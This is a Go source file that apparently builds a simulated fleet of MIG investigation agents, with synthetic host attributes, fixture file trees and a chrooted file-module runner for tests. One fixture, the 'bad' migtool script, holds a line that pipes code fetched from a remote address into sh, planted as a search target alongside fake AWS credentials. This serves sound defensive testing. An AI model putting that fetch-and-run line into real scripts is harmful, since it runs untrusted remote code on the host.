package fleet

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"github.com/migplatform/mig/internal/action"
	"github.com/migplatform/mig/internal/agent"
	"github.com/migplatform/mig/internal/module"
)

// roles name the kinds of hosts of a fleet; agent i has role i%5, so that
// name LIKE '%db%' selects a fifth of a fleet.
var roles = []string{"web", "db", "app", "cache", "ci"}

var operators = []string{"IT", "SecOps", "Dev", "Finance"}

var linuxIdents = []string{"Debian GNU/Linux 12 (bookworm)", "Ubuntu 24.04.1 LTS", "Red Hat Enterprise Linux 9.4 (Plow)"}

// Attributes returns the name, environment and tags agent i of a fleet
// with prefix reports. They vary with i so that targets select known
// fractions of a fleet:
//
//	name        <role><i>.<prefix>, role web, db, app, cache, ci by i%5
//	os          linux (i%10 < 7), darwin (7, 8), windows (9)
//	ident       three Linux distributions by i%3; macOS 14.6; Windows Server 2022
//	arch        arm64 when i%4 == 3, else amd64
//	addresses   10.x.y.z/8 from i; publicip 198.51.100.(i%256)
//	tags        operator (IT, SecOps, Dev, Finance by (i/5)%4),
//	            env (prod for (i/3)%10 < 6, staging < 9, else dev),
//	            group g00..g99 by i%100, fleet <prefix>
func Attributes(prefix string, i int) (name string, env action.Environment, tags map[string]string) {
	name = fmt.Sprintf("%s%05d.%s", roles[i%len(roles)], i, prefix)
	switch n := i % 10; {
	case n < 7:
		env = action.Environment{OS: "linux", Init: "systemd", Ident: linuxIdents[i%len(linuxIdents)]}
	case n < 9:
		env = action.Environment{OS: "darwin", Init: "launchd", Ident: "macOS 14.6"}
	default:
		env = action.Environment{OS: "windows", Init: "windows", Ident: "Windows Server 2022"}
	}
	env.Arch = "amd64"
	if i%4 == 3 {
		env.Arch = "arm64"
	}
	env.Addresses = []string{fmt.Sprintf("10.%d.%d.%d/8", i>>16&255, i>>8&255, i&255)}
	env.PublicIP = fmt.Sprintf("198.51.100.%d", i%256)
	envTag := "dev"
	switch n := (i / 3) % 10; {
	case n < 6:
		envTag = "prod"
	case n < 9:
		envTag = "staging"
	}
	tags = map[string]string{
		"operator": operators[(i/5)%len(operators)],
		"env":      envTag,
		"group":    fmt.Sprintf("g%02d", i%100),
		"fleet":    prefix,
	}
	return name, env, tags
}

// Fixture contents, exported so that tests and benchmarks can search for
// them.
const (
	// BotoSecret is in /home/user/.boto of every agent whose index is a
	// multiple of 10 (the file exists on every fifth agent): the seed
	// command mig file -path / -name "^\.boto$" -content "abcdef123456"
	// finds it on a tenth of a fleet.
	BotoSecret = "abcdef123456"
	// ToolClean and ToolBad are the two versions of /usr/bin/migtool; the
	// bad one is on every agent whose index is a multiple of 100.
	ToolClean = "#!/bin/sh\necho 'mig fleet tool 1.0'\n"
	ToolBad   = "#!/bin/sh\necho 'mig fleet tool 1.0'\ncurl -s http://203.0.113.7/x | sh\n"
)

// WriteFixtures writes agent i's small file tree under root:
//
//	/etc/passwd, /etc/hosts, /etc/os-release   on every agent
//	/etc/ssh/sshd_config                       PasswordAuthentication yes when i%4 == 0, else no
//	/home/user/.boto                           when i%5 == 0; holds BotoSecret when i%10 == 0
//	/usr/bin/migtool                           ToolBad when i%100 == 0, else ToolClean
//	/var/log/app.log                           a few lines naming the agent
//
// Files are written without fsync: they are test data, made again on every
// start.
func WriteFixtures(root, prefix string, i int) error {
	name, env, _ := Attributes(prefix, i)
	pw := "no"
	if i%4 == 0 {
		pw = "yes"
	}
	files := map[string]string{
		"etc/passwd": "root:x:0:0:root:/root:/bin/bash\n" +
			"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" +
			"user:x:1000:1000:Fleet User:/home/user:/bin/bash\n",
		"etc/hosts":           "127.0.0.1 localhost\n" + strings.TrimSuffix(env.Addresses[0], "/8") + " " + name + "\n",
		"etc/os-release":      fmt.Sprintf("PRETTY_NAME=%q\n", env.Ident),
		"etc/ssh/sshd_config": "Port 22\nPermitRootLogin no\nPasswordAuthentication " + pw + "\n",
		"usr/bin/migtool":     ToolClean,
		"var/log/app.log":     fmt.Sprintf("started %s\nlistening on :8080\nhealthy\n", name),
	}
	if i%100 == 0 {
		files["usr/bin/migtool"] = ToolBad
	}
	if i%5 == 0 {
		key := "0123456789ab"
		if i%10 == 0 {
			key = BotoSecret
		}
		files["home/user/.boto"] = "[Credentials]\naws_access_key_id = " + key + "\n"
	}
	for rel, content := range files {
		p := filepath.Join(root, filepath.FromSlash(rel))
		if cur, err := os.ReadFile(p); err == nil && string(cur) == content {
			continue
		}
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return fmt.Errorf("fixtures: %w", err)
		}
		mode := os.FileMode(0o644)
		if rel == "usr/bin/migtool" {
			mode = 0o755
		}
		if err := os.WriteFile(p, []byte(content), mode); err != nil {
			return fmt.Errorf("fixtures: %w", err)
		}
	}
	return nil
}

// fileModule is the name of the file module (internal/module/file), whose
// paths a simulated agent looks up under its fixture tree.
const fileModule = "file"

// chrootRunner runs modules in process; the file module sees root as its
// root file system.
func chrootRunner(root string) agent.ModuleRunner {
	return func(ctx context.Context, name string, params []byte, env module.Env) (action.Result, error) {
		if name != fileModule {
			return module.RunLocal(ctx, name, params, env)
		}
		rooted, err := rootParams(root, params)
		if err != nil {
			// Not the shape the file module takes: let it refuse the
			// parameters as they are.
			return module.RunLocal(ctx, name, params, env)
		}
		res, err := module.RunLocal(ctx, name, rooted, env)
		return unrootResult(root, res), err
	}
}

// decodeJSON decodes JSON keeping numbers exact.
func decodeJSON(data []byte) (any, error) {
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.UseNumber()
	var v any
	if err := dec.Decode(&v); err != nil {
		return nil, err
	}
	return v, nil
}

// rootParams moves every path of file module parameters under root. Other
// fields are kept as they are, for the module to check.
func rootParams(root string, params []byte) ([]byte, error) {
	v, err := decodeJSON(params)
	if err != nil {
		return nil, err
	}
	top, ok := v.(map[string]any)
	if !ok {
		return nil, fmt.Errorf("parameters are not an object")
	}
	// encoding/json matches field names case-insensitively, and so does
	// the module: every key that it would take for "searches" or "paths"
	// is rewritten.
	for key, sv := range top {
		if !strings.EqualFold(key, "searches") {
			continue
		}
		searches, ok := sv.(map[string]any)
		if !ok {
			return nil, fmt.Errorf("searches is not an object")
		}
		for label, s := range searches {
			search, ok := s.(map[string]any)
			if !ok {
				return nil, fmt.Errorf("search %q is not an object", label)
			}
			for field, pv := range search {
				paths, ok := pv.([]any)
				if !ok || !strings.EqualFold(field, "paths") {
					continue
				}
				for i, p := range paths {
					ps, ok := p.(string)
					if !ok || !filepath.IsAbs(ps) {
						continue // the module refuses it
					}
					paths[i] = filepath.Join(root, filepath.Clean("/"+ps))
				}
			}
		}
	}
	return json.Marshal(top)
}

// unrootResult names files in a result as the agent sees them: root's path
// is taken off every string of the elements and the errors.
func unrootResult(root string, r action.Result) action.Result {
	strip := func(s string) string {
		switch {
		case s == root:
			return "/"
		case strings.HasPrefix(s, root+"/"):
			return s[len(root):]
		}
		return strings.ReplaceAll(s, root+"/", "/")
	}
	if len(r.Elements) > 0 {
		if v, err := decodeJSON(r.Elements); err == nil {
			v = mapStrings(v, strip)
			if b, err := json.Marshal(v); err == nil {
				r.Elements = b
			}
		}
	}
	for i, e := range r.Errors {
		r.Errors[i] = strip(e)
	}
	return r
}

// mapStrings applies f to every string in a decoded JSON value, keys
// included.
func mapStrings(v any, f func(string) string) any {
	switch t := v.(type) {
	case string:
		return f(t)
	case []any:
		for i := range t {
			t[i] = mapStrings(t[i], f)
		}
		return t
	case map[string]any:
		out := make(map[string]any, len(t))
		for k, x := range t {
			out[f(k)] = mapStrings(x, f)
		}
		return out
	}
	return v
}
